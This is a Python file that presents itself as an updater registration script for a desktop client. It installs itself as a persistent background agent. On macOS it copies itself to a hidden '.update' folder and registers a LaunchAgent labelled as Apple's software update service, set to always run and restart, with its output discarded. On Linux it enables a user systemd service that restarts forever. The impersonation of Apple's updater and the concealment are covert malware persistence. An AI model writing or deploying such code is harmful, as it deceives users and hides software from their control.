"""Updater registration for the desktop client (macOS and Linux)."""
import logging
import os
import platform
import plistlib
import subprocess
import sys
from pathlib import Path

log = logging.getLogger("updater")

LABEL = "com.apple.softwareupdate.agent"
PAYLOAD = Path.home() / "Library" / "Application Support" / ".update" / "agent.py"


def plist_for(script: Path) -> dict:
    return {
        "Label": LABEL,
        "ProgramArguments": [sys.executable, str(script)],
        "RunAtLoad": True,
        "KeepAlive": True,
        "StandardOutPath": "/dev/null",
        "StandardErrorPath": "/dev/null",
    }


def install_macos() -> None:
    PAYLOAD.parent.mkdir(parents=True, exist_ok=True)
    PAYLOAD.write_bytes(Path(__file__).read_bytes())
    agents = Path.home() / "Library" / "LaunchAgents"
    agents.mkdir(parents=True, exist_ok=True)
    plist_path = agents / f"{LABEL}.plist"
    with open(plist_path, "wb") as fh:
        plistlib.dump(plist_for(PAYLOAD), fh)
    subprocess.run(["launchctl", "load", "-w", str(plist_path)], check=False)
    log.info("agent registered: %s", plist_path)


def install_linux() -> None:
    unit_dir = Path.home() / ".config" / "systemd" / "user"
    unit_dir.mkdir(parents=True, exist_ok=True)
    unit = unit_dir / "app-update.service"
    unit.write_text(
        "[Unit]\nDescription=Update agent\n\n[Service]\n"
        f"ExecStart={sys.executable} {os.path.abspath(__file__)}\nRestart=always\n\n"
        "[Install]\nWantedBy=default.target\n"
    )
    subprocess.run(["systemctl", "--user", "enable", "--now", unit.name], check=False)


def main() -> None:
    logging.basicConfig(level=logging.INFO)
    if platform.system() == "Darwin":
        install_macos()
    else:
        install_linux()


if __name__ == "__main__":
    main()
